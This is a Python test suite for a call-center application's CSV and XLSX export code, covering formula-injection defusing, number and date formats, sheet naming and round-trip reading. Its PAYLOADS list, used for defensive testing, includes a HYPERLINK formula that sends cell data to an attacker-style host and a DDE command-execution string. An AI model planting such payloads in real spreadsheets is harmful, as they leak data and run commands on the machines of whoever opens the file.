"""What we write opens as data: text is text, numbers are numbers, and reading it back gives it again (P-05)."""

import csv
import datetime
import io
import zipfile
import zoneinfo
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from callcenter.spreadsheet import flat
from callcenter.spreadsheet.cells import cell_text, clean, column_letters, column_position, defuse, restore
from callcenter.spreadsheet.names import safe_sheet_names
from callcenter.spreadsheet.read import open_table
from callcenter.spreadsheet.write import Sheet, stream_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+8613800138000",
    "-2+3",
    "-5",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\n=1+1",
    "'=1+1",
]
SHANGHAI = zoneinfo.ZoneInfo("Asia/Shanghai")


def make_csv(tmp_path, rows, header=None, **options):
    path = tmp_path / "out.csv"
    path.write_bytes(b"".join(stream_csv(rows, header=header, **options)))
    return path


def parsed(path):
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_no_formula_in_csv(tmp_path, payload):
    path = make_csv(tmp_path, [["x", payload]], header=["a", "b"])
    (cell,) = [row[1] for row in parsed(path)[1:]]
    assert cell.startswith("'")
    assert list(open_table(path).rows()) == [(2, ["x", clean(payload)])]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_no_formula_in_csv_header(tmp_path, payload):
    assert parsed(make_csv(tmp_path, [], header=["a", payload]))[0][1].startswith("'")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_text_is_no_formula_in_xlsx(tmp_path, payload):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, Sheet("名单", ["a", payload], [["x", payload]]))
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f" not in xml.replace(b"<fo", b"")
    cells = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}
    assert list(open_table(path).rows()) == [(2, ["x", clean(payload)])]


def test_numbers_are_left_alone_in_csv(tmp_path):
    row = [-5, +3, -0.5, Decimal("-12.50"), 1e-7, 10**20, True, None, float("nan"), Decimal("Infinity")]
    assert parsed(make_csv(tmp_path, [row])) == [
        ["-5", "3", "-0.5", "-12.50", "0.0000001", "100000000000000000000", "TRUE", "", "", ""]
    ]


def test_dates_and_durations_in_csv(tmp_path):
    moment = datetime.datetime(2026, 5, 1, 1, 2, 3, tzinfo=datetime.UTC)
    row = [moment, datetime.date(2026, 5, 1), datetime.time(9, 30), datetime.timedelta(hours=30, seconds=5)]
    path = make_csv(tmp_path, [row], zone=SHANGHAI)
    assert parsed(path) == [["2026-05-01 09:02:03", "2026-05-01", "09:30:00", "30:00:05"]]


def test_instant_without_zone_is_an_error(tmp_path):
    row = [datetime.datetime(2026, 5, 1, tzinfo=datetime.UTC)]
    with pytest.raises(ValueError, match="zone"):
        list(stream_csv([row]))
    with pytest.raises(ValueError, match="zone"):
        write_xlsx(tmp_path / "x.xlsx", Sheet("a", ["a"], [row]))
    assert not (tmp_path / "x.xlsx").exists()


def test_csv_begins_with_a_mark_and_streams():
    pieces = stream_csv(([n, "张三"] for n in range(50_000)), header=["编号", "姓名"])
    first = next(pieces)
    assert first.startswith(b"\xef\xbb\xbf" + "编号,姓名\r\n0,张三\r\n".encode())
    sizes = [len(first), *map(len, pieces)]
    assert len(sizes) > 5
    assert max(sizes) < 70_000


def test_no_rows_give_a_file_with_a_header(tmp_path):
    assert b"".join(stream_csv([])) == b"\xef\xbb\xbf"
    path = tmp_path / "x.xlsx"
    assert write_xlsx(path, Sheet("a", ["姓名", "电话"], [])) == 0
    assert [cell.name for cell in open_table(path).header] == ["姓名", "电话"]


def test_control_and_half_characters_are_stripped(tmp_path):
    dirty = "a\x00\x07b\x0b\x1f\x7f\x85\ud800c\ufffe\uffff\r\nd\re"
    path = tmp_path / "x.xlsx"
    write_xlsx(path, Sheet("a\x00", ["a", "b\x00"], [[dirty, 1]]))
    assert list(open_table(path).rows()) == [(2, ["abc\nd\ne", "1"])]
    assert parsed(make_csv(tmp_path, [[dirty]])) == [["abc\nd\ne"]]


@pytest.mark.parametrize("text", ["a_x000D_b", "_x0041_", "_x005F_x0041_", "x_X"])
def test_text_that_looks_like_an_escape_is_kept(tmp_path, text):
    path = tmp_path / "x.xlsx"
    write_xlsx(path, Sheet("a", ["a", "b"], [[text, "y"]]))
    with zipfile.ZipFile(path) as archive:
        escaped = text.replace("_x", "_x005F_x")
        assert f">{escaped}<" in archive.read("xl/worksheets/sheet1.xml").decode()
    assert list(open_table(path).rows()) == [(2, [text, "y"])]


@pytest.mark.parametrize("text", ["x" * 40_000, "😀" * 20_000])
def test_text_beyond_a_cell_is_cut_visibly(tmp_path, text):
    path = tmp_path / "x.xlsx"
    write_xlsx(path, Sheet("a", ["a", "b"], [[text, "y"]]))
    ((_number, cells),) = open_table(path).rows()
    assert cells[0].endswith("…")
    assert 32_760 <= len(cells[0].encode("utf-16-le")) / 2 <= 32_767


def test_xlsx_values_keep_their_types_and_formats(tmp_path):
    path = tmp_path / "x.xlsx"
    row = [
        "文字",
        1_234,
        0.5,
        Decimal("12.50"),
        3_661,
        datetime.date(2026, 5, 1),
        datetime.datetime(2026, 5, 1, 1, 2, 3, tzinfo=datetime.UTC),
        datetime.time(9, 30),
        datetime.timedelta(hours=30),
        True,
        None,
        float("nan"),
        10**18,
        datetime.date(1890, 1, 1),
        13800138000,
    ]
    kinds = [None, "count", "rate", "money", "duration"] + [None] * 9 + ["text"]
    header = [f"列{n}" for n in range(len(row))]
    assert write_xlsx(path, Sheet("明细", header, [row], kinds), zone=SHANGHAI) == 1
    sheet = openpyxl.load_workbook(path)["明细"]
    found = [(cell.value, cell.number_format) for cell in sheet[2]]
    assert found == [
        ("文字", "@"),
        (1_234, "#,##0"),
        (0.5, "0.0%"),
        (12.5, "#,##0.00"),
        (datetime.timedelta(seconds=3_661), "[h]:mm:ss"),
        (datetime.datetime(2026, 5, 1), "yyyy-mm-dd"),
        (datetime.datetime(2026, 5, 1, 9, 2, 3), "yyyy-mm-dd hh:mm:ss"),
        (datetime.time(9, 30), "hh:mm:ss"),
        (datetime.timedelta(hours=30), "[h]:mm:ss"),
        (True, "General"),
        (None, "General"),
        (None, "General"),
        ("1000000000000000000", "@"),
        ("1890-01-01", "@"),
        ("13800138000", "@"),
    ]


def test_xlsx_header_is_bold_frozen_filtered_and_repeated_in_print(tmp_path):
    path = tmp_path / "x.xlsx"
    write_xlsx(
        path,
        Sheet("明细", ["姓名", "手机号码"], [["张三", "1"]], widths=[20]),
        Sheet("二", ["a"], []),
        title="客户",
    )
    book = openpyxl.load_workbook(path)
    sheet = book["明细"]
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("A2", "A1:B2", "$1:$1")
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (
        "landscape",
        9,
        0,
    )
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet["A1"].font.b, sheet["A1"].fill.fgColor.rgb) == (True, "FFE8EEF5")
    assert [sheet.column_dimensions[letter].width for letter in "AB"] == [20, 11]
    assert (book.sheetnames, book.properties.title) == (["明细", "二"], "客户")


def test_rows_beyond_a_sheet_go_on_in_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(flat, "MAX_ROWS", 4)
    path = tmp_path / "x.xlsx"
    assert (
        write_xlsx(path, Sheet("明细", ["n"], [[n] for n in range(7)]), Sheet("明细 (2)", ["x"], [["y"]]))
        == 7 + 1
    )
    book = openpyxl.load_workbook(path)
    assert {sheet.title: [row[0] for row in sheet.values] for sheet in book} == {
        "明细": ["n", 0, 1, 2],
        "明细 (2)": ["n", 3, 4, 5],
        "明细 (3)": ["n", 6],
        "明细 (2) (2)": ["x", "y"],
    }


def test_failing_rows_leave_no_file(tmp_path):
    def rows():
        yield ["a"]
        raise RuntimeError("gone")

    with pytest.raises(RuntimeError):
        write_xlsx(tmp_path / "x.xlsx", Sheet("a", ["a"], rows()))
    assert list(tmp_path.iterdir()) == []


def test_xlsx_can_be_written_to_memory():
    target = io.BytesIO()
    write_xlsx(target, Sheet("a", ["a"], [["b"]]))
    assert openpyxl.load_workbook(target).active["A2"].value == "b"


def test_sheet_names_are_made_safe_and_different():
    names = ["[a]:*?/\\b", "", "  ", "'x'", "History", "A" * 40, "a" * 40, "客户名单" * 10, "😀" * 20, "x'"]
    safe = safe_sheet_names(names)
    assert len({name.casefold() for name in safe}) == len(names)
    for name in safe:
        assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not (name.startswith("'"))
        assert not (name.endswith("'"))
        assert name.casefold() != "history"
    assert safe_sheet_names(["名单"], taken=["名单", "名单 (2)"]) == ["名单 (3)"]


@given(st.integers(0, 20_000))
def test_column_letters_and_positions_agree(position):
    assert column_position(column_letters(position)) == position


def test_column_letters_are_those_of_the_program():
    assert [column_letters(position) for position in (0, 25, 26, 701, 702, 16_383)] == [
        "A",
        "Z",
        "AA",
        "ZZ",
        "AAA",
        "XFD",
    ]


@given(st.text())
def test_defused_text_is_restored(text):
    assert restore(defuse(text)) == text


TEXTS = (
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)
    | st.sampled_from(PAYLOADS)
    | st.text(max_size=8)
)
TABLES = st.lists(st.lists(TEXTS, min_size=3, max_size=3), max_size=8)
ONCE = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def expected(rows):
    cleaned = [(number, [clean(cell) for cell in row]) for number, row in enumerate(rows, start=2)]
    return [(number, row) for number, row in cleaned if "".join(row).strip()]


@ONCE
@given(rows=TABLES)
def test_csv_is_read_back_as_it_was_written(tmp_path, rows):
    path = make_csv(tmp_path, rows, header=["姓名", "电话", "备注"])
    assert list(open_table(path, delimiter=",").rows()) == expected(rows)


@ONCE
@given(rows=TABLES)
def test_xlsx_is_read_back_as_it_was_written(tmp_path, rows):
    path = tmp_path / "x.xlsx"
    write_xlsx(path, Sheet("名单", ["姓名", "电话", "备注"], rows))
    table = open_table(path)
    found = list(table.rows())
    assert found == expected(rows)
    assert [table.check(*row) for row in found] == [[]] * len(found)


NUMBERS = (
    st.integers(-(10**15) + 1, 10**15 - 1)
    | st.decimals(-(10**9), 10**9, places=2)
    | st.dates(datetime.date(1900, 3, 1), datetime.date(2199, 12, 31))
    | st.datetimes(datetime.datetime(1900, 3, 1), datetime.datetime(2199, 12, 31)).map(
        lambda value: value.replace(microsecond=0)
    )
    | st.booleans()
)


@ONCE
@given(values=st.lists(NUMBERS, min_size=2, max_size=6))
def test_numbers_and_dates_are_read_back_as_they_were_written(tmp_path, values):
    def meaning(value, text):
        if isinstance(value, bool):
            return text == cell_text(value)
        if isinstance(value, int | Decimal):
            return Decimal(text) == value
        if isinstance(value, datetime.datetime):
            return datetime.datetime.fromisoformat(text) == value
        return datetime.date.fromisoformat(text) == value

    header = [f"c{n}" for n in range(len(values))]
    write_xlsx(tmp_path / "x.xlsx", Sheet("a", header, [values]))
    for path in (tmp_path / "x.xlsx", make_csv(tmp_path, [values], header=header)):
        ((_number, cells),) = open_table(path).rows()
        wrong = [(value, text) for value, text in zip(values, cells, strict=True) if not meaning(value, text)]
        assert wrong == []
